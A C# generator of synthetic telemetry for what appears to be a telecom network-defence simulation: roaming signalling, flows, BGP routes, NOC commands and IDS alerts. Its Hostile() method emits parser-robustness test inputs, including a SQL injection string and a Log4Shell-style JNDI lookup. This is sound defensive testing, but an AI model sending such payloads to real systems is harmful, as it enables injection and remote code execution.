using System.Net;
using System.Text;
using Quanet.Defence.Telemetry;

namespace Quanet.Defence.Simulation;

/// <summary>
/// Benign telemetry of the scenario for one day: roaming signalling with plausible travel, flows from the
/// interconnects to customers, NOC sessions, BGP announcements (with prepending), IDS noise, and a small share
/// of malformed or hostile lines that the parser must reject.
/// </summary>
internal sealed class BackgroundGenerator(Random rng)
{
    private static readonly string[] PartnerOperations = ["insertSubscriberData", "cancelLocation", "provideRoamingNumber", "provideSubscriberInfo", "deleteSubscriberData"];
    private static readonly string[] NocCommands = ["show interfaces", "show ip bgp summary", "show version", "show logging", "configure terminal", "show running-config"];
    private static readonly string[] Devices = ["pe1", "pe2", "core1", "core2"];
    private readonly Dictionary<int, (string Country, DateTimeOffset At)> _roamers = [];

    public void Day(DateTimeOffset dayStart, List<TelemetryItem> items)
    {
        var end = dayStart.AddDays(1);
        Poisson(dayStart, end, 30, at => items.Add(Line(at, TelemetryKind.Signalling, PartnerSignalling(at, "ss7-roam-x", "20801", "336"))));
        Poisson(dayStart, end, 30, at => items.Add(Line(at, TelemetryKind.Signalling, PartnerSignalling(at, "ss7-hub-y", rng.Next(2) == 0 ? "21401" : "23415", "346"))));
        Poisson(dayStart, end, 60, at => items.Add(Line(at, TelemetryKind.Signalling, RoamerUpdate(at))));
        Poisson(dayStart, end, 20, at => items.Add(Line(at, TelemetryKind.Flow, Flow(at, "203.0.113"))));
        Poisson(dayStart, end, 10, at => items.Add(Line(at, TelemetryKind.Flow, Flow(at, "198.51.100"))));
        Poisson(dayStart, end, 10, at => items.Add(Line(at, TelemetryKind.Flow, Flow(at, "192.0.2"))));
        Poisson(dayStart, end, 300, at => items.Add(Line(at, TelemetryKind.Flow, new FlowEvent(at, Address("198.18.1", 10, 30), Address("198.18.0", 1, 40), Port(), 22, "TCP", rng.Next(2_000, 90_000), rng.Next(10, 300)))));
        Poisson(dayStart, end, 1_440, at => items.Add(Line(at, TelemetryKind.Aaa, new CommandEvent(at, Pick(Devices), Pick(["alice", "bob", "carol"]), Address("198.18.1", 10, 30), Pick(NocCommands)))));
        Poisson(dayStart, end, 600, at => items.Add(Line(at, TelemetryKind.Bgp, new BgpUpdateEvent(at, 206101, IPNetwork.Parse("203.0.113.0/24"), [206101], false))));
        Poisson(dayStart, end, 300, at => items.Add(Line(at, TelemetryKind.Bgp, TransitRoute(at, 206102))));
        Poisson(dayStart, end, 300, at => items.Add(Line(at, TelemetryKind.Bgp, TransitRoute(at, 206103))));
        Poisson(dayStart, end, 4_320, at => items.Add(Line(at, TelemetryKind.Suricata, new IdsAlertEvent(at, Address(rng.Next(2) == 0 ? "198.51.100" : "192.0.2", 1, 250), Address("198.19." + rng.Next(256), 1, 250), 443, 2013028, "ET POLICY curl User-Agent Outbound", 3, "Attempted Information Leak"))));
        Poisson(dayStart, end, 172_800, at => items.Add(Line(at, TelemetryKind.Suricata, new IdsAlertEvent(at, Address(rng.Next(2) == 0 ? "198.51.100" : "192.0.2", 100, 250), Address("198.19." + rng.Next(256), 1, 250), 22, 2001219, "ET SCAN Potential SSH Scan", 2, "Attempted Information Leak"))));
        Poisson(dayStart, end, 900, at => items.Add(new TelemetryItem(at, (TelemetryKind)rng.Next(5), Hostile(), -1)));
    }

    private SignallingEvent PartnerSignalling(DateTimeOffset at, string ic, string imsiPrefix, string gtPrefix) =>
        new(at, ic, "MAP", Pick(PartnerOperations), gtPrefix + rng.Next(10_000_000, 99_999_999), "4915" + rng.Next(10_000_000, 99_999_999), imsiPrefix + rng.Next(100_000_000, 999_999_999).ToString("D10", System.Globalization.CultureInfo.InvariantCulture), null);

    // our subscribers abroad: a roamer changes country only after half a day, so travel stays plausible
    private SignallingEvent RoamerUpdate(DateTimeOffset at)
    {
        var id = rng.Next(2_000);
        var country = _roamers.TryGetValue(id, out var last) ? last.Country : Pick(["FR", "ES", "GB"]);
        if (_roamers.ContainsKey(id) && at - last.At > TimeSpan.FromHours(12) && rng.NextDouble() < 0.3)
        {
            country = Pick(["FR", "ES", "GB"]);
        }

        _roamers[id] = (country, at);
        var (ic, gt) = country == "FR" ? ("ss7-roam-x", "336") : ("ss7-hub-y", country == "ES" ? "346" : "447");
        return new SignallingEvent(at, ic, "MAP", "updateLocation", gt + rng.Next(10_000_000, 99_999_999), "4915" + rng.Next(10_000_000, 99_999_999), DefenceScenario.HomeImsi + id.ToString("D10", System.Globalization.CultureInfo.InvariantCulture), country);
    }

    private FlowEvent Flow(DateTimeOffset at, string net) =>
        new(at, Address(net, 1, 250), Address("198.19." + rng.Next(256), 1, 250), Port(), Pick([443, 443, 443, 80, 53]), "TCP", rng.Next(500, 2_000_000), rng.Next(2, 2_000));

    private BgpUpdateEvent TransitRoute(DateTimeOffset at, long peer)
    {
        int first;
        do
        {
            first = rng.Next(1, 224);
        }
        while (first is 10 or 100 or 127 or 169 or 172 or 192 or 198 or 203);

        var prefix = IPNetwork.Parse($"{first}.{rng.Next(256)}.{rng.Next(256)}.0/24");
        var origin = rng.Next(1_000, 60_000);
        List<long> path = rng.NextDouble() < 0.1 ? [peer, peer, rng.Next(1_000, 23_000), origin] : [peer, rng.Next(1_000, 23_000), origin];
        return new BgpUpdateEvent(at, peer, prefix, path, rng.NextDouble() < 0.05);
    }

    private byte[] Hostile() => rng.Next(6) switch
    {
        0 => Encoding.UTF8.GetBytes("{\"ts\":\"2026-01-01T00:00:00Z\",\"device\":\"pe1\",\"user\":\"" + new string('A', 40_000) + "\"}"),
        1 => [0x7B, 0x22, 0xC3, 0x28, 0xFF, 0xFE, 0x22, 0x7D],
        2 => Encoding.UTF8.GetBytes("{\"ts\":\"2026-01-01T00:00:00Z\",\"device\":\"pe1\",\"user\":\"x\\u001b[2J\",\"src\":\"198.18.1.5\",\"cmd\":\"show\"}"),
        3 => Encoding.UTF8.GetBytes("{\"ts\":\"2026-01-01T00:00:00Z\",\"peer_asn\":\"'; DROP TABLE alarms;--\",\"type\":\"announcement\""),
        4 => Encoding.UTF8.GetBytes("{\"a\":" + new string('[', 200) + new string(']', 200) + "}"),
        _ => Encoding.UTF8.GetBytes("2026-01-01T00:00:00Z,999.1.1.1,${jndi:ldap://x/a},1,2,TCP,3,4"),
    };

    private void Poisson(DateTimeOffset start, DateTimeOffset end, double meanSeconds, Action<DateTimeOffset> emit)
    {
        for (var at = start.AddSeconds(-meanSeconds * Math.Log(1 - rng.NextDouble())); at < end; at = at.AddSeconds(-meanSeconds * Math.Log(1 - rng.NextDouble())))
        {
            emit(at);
        }
    }

    private static TelemetryItem Line(DateTimeOffset at, TelemetryKind kind, SecurityEvent ev) =>
        new(at, kind, Encoding.UTF8.GetBytes(TelemetryFormatter.Format(ev)), -1);

    private IPAddress Address(string prefix, int low, int high) => IPAddress.Parse($"{prefix}.{rng.Next(low, high)}");

    private int Port() => rng.Next(1_024, 65_535);

    private T Pick<T>(T[] items) => items[rng.Next(items.Length)];
}
